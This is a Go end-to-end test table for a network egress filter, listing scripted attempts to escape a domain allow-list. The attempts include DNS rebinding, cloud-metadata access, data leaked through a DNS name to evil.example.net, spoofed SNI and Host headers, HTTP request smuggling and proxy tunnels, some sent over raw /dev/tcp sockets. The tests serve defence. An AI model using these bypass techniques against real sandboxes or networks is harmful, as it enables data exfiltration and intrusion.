package e2e

// The policies of nameEscapes.
const (
	onlyWWW = "allow=www.example.com"
	onlyOrg = "allow=*.example.org"
)

// nameEscapes lead by names to where no address would, or by one name to what another has opened.
var nameEscapes = []escape{
	{name: "a name for a private address", script: "curl -sS http://lan.example.net/", asks: []string{"lan.example.net"}, rule: "forbidden:private", about: "lan.example.net"},
	{name: "a chain of names to one", script: "curl -sS http://chain.example.net/", asks: []string{"chain.example.net"}, rule: "forbidden:private", about: "chain.example.net"},
	{name: "a name for a mapped one", script: "curl -sS http://mapped.example.net/", asks: []string{"mapped.example.net"}, rule: "forbidden:private", about: "10.0.0.5"},
	{name: "a name for one behind NAT64", script: "curl -sS http://nat64.example.net/", asks: []string{"nat64.example.net"}, rule: "forbidden:private", about: "nat64.example.net"},
	{name: "one among public ones", script: "getent ahostsv4 mixed.example.net | grep 192.168.7.7", asks: []string{"mixed.example.net"}, rule: "forbidden:private", about: "192.168.7.7"},
	{name: "rebinding", script: "getent ahostsv4 rebind.example.net >/dev/null || exit 0; curl -sS4 http://rebind.example.net/", asks: []string{"rebind.example.net"}, rule: "forbidden:private", about: "rebind.example.net"},
	{name: "a name for metadata", script: "curl -sS http://metadata.google.internal/", asks: []string{"metadata.google.internal"}, rule: "forbidden:metadata", about: "metadata.google.internal"},
	{name: "a name for the host", script: "curl -sS http://host.example.net:8080/", asks: []string{"host.example.net"}, rule: "host", about: "host.example.net"},
	{name: "a name for the loopback", script: "getent ahostsv4 loopback.example.net", asks: []string{"loopback.example.net"}, rule: "host", about: "loopback.example.net"},
	{name: "a name of the host's network", script: "getent hosts printer", rule: "special-name", about: "printer"},
	{name: "who has a private address", script: "busybox nslookup -type=ptr 5.0.0.10.in-addr.arpa", rule: "special-name", about: "5.0.0.10.in-addr.arpa"},

	{name: "another name", policy: onlyWWW, script: "curl -sS http://git.example.com/", rule: "not-allowed", about: "git.example.com"},
	{name: "another name for an allowed one", policy: onlyWWW, script: "curl -sS http://alias.example.com/", rule: "not-allowed", about: "alias.example.com"},
	{name: "secrets in a name", policy: onlyWWW, script: "getent hosts secret.www.example.com.evil.example.net", rule: "not-allowed", about: "secret.www.example.com.evil.example.net"},
	{name: "secrets below an allowed name", policy: onlyWWW, script: "getent hosts secret.www.example.com", rule: "not-allowed", about: "secret.www.example.com"},
	{name: "the target of an allowed alias", policy: "allow=alias.example.com", script: "getent ahostsv4 alias.example.com >/dev/null || exit 0; curl -sS -H 'Host: www.example.com' http://alias.example.com/",
		asks: []string{"alias.example.com"}, dials: "tcp 93.184.215.14:80", rule: "claim", about: "www.example.com"},
	{name: "without the dot of a wildcard", policy: onlyOrg, script: "curl -sSk https://apiexample.org/", rule: "not-allowed", about: "apiexample.org"},
	{name: "a wildcard's name itself", policy: onlyOrg, script: "curl -sSk https://example.org/", rule: "not-allowed", about: "example.org"},
	{name: "a wildcard's name in the middle", policy: onlyOrg, script: "curl -sSk https://api.example.org.example.net/", rule: "not-allowed", about: "api.example.org.example.net"},
	{name: "another port", policy: "allow=*.example.org:443", script: "curl -sS4 http://api.example.org/", asks: []string{"api.example.org"}, rule: "not-allowed", about: "api.example.org"},

	{name: "lying SNI", policy: onlyWWW, script: lie("-k --resolve evil.example.net:443:93.184.215.14 https://evil.example.net/"), asks: www, dials: "tcp 93.184.215.14:443", rule: "claim", about: "evil.example.net"},
	{name: "no SNI", policy: onlyWWW, script: lie("-k https://93.184.215.14/"), asks: www, dials: "tcp 93.184.215.14:443", rule: "claim", about: "www.example.com"},
	{name: "lying Host", policy: onlyWWW, script: lie("-H 'Host: evil.example.net' http://www.example.com/"), asks: www, dials: "tcp 93.184.215.14:80", rule: "claim", about: "evil.example.net"},
	{name: "no Host", policy: onlyWWW, script: lie("-0 -H Host: http://www.example.com/"), asks: www, dials: "tcp 93.184.215.14:80", rule: "claim", about: "www.example.com"},
	{name: "two Hosts", policy: onlyWWW, script: request(`GET / HTTP/1.1\r\nHost: www.example.com\r\nHost: evil.example.net\r\n\r\n`), asks: www, dials: "tcp 93.184.215.14:80", rule: "bad-request", about: "several Host headers"},
	{name: "a line end before it", policy: onlyWWW, script: request(`\r\nGET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n`), asks: www, dials: "tcp 93.184.215.14:80", rule: "bad-request", about: "no request begins where one must"},
	{name: "many spaces", policy: onlyWWW, script: request(`GET  /  HTTP/1.1\r\nHost: evil.example.net\r\n\r\n`), asks: www, dials: "tcp 93.184.215.14:80", rule: "bad-request", about: "the first line is not that of a request"},
	{name: "a second request", policy: onlyWWW, script: speak(`GET /where HTTP/1.1\r\nHost: www.example.com\r\n\r\nGET /where HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n`) + "grep 'as evil'", asks: www, dials: "tcp 93.184.215.14:80", rule: "claim", about: "evil.example.net"},
	{name: "a proxy's request", policy: onlyWWW, script: lie("-x http://www.example.com:80 http://evil.example.net/"), asks: www, dials: "tcp 93.184.215.14:80", rule: "claim", about: "evil.example.net"},
	{name: "a tunnel", policy: onlyWWW, script: lie("-p -x http://www.example.com:80 http://evil.example.net/"), asks: www, dials: "tcp 93.184.215.14:80", rule: "bad-request", about: "CONNECT"},
	{name: "TLS at another port", policy: onlyWWW, script: lie("-k --resolve evil.example.net:8080:93.184.215.14 https://evil.example.net:8080/"), asks: www, dials: "tcp 93.184.215.14:8080", rule: "claim", about: "evil.example.net"},
}

var www = []string{"www.example.com"}

// lie has an allowed name open its address, and then says another.
func lie(curl string) string {
	return "getent ahostsv4 www.example.com >/dev/null || exit 0; curl -sS4 " + curl
}

// request does so in its own words.
func request(text string) string { return speak(text) + "head -n 1 | grep HTTP" }

// speak gives what is answered to the command that follows.
func speak(text string) string {
	return "getent ahostsv4 www.example.com >/dev/null || exit 0; exec 3<>/dev/tcp/93.184.215.14/80; printf '" + text + "' >&3; cat <&3 | "
}
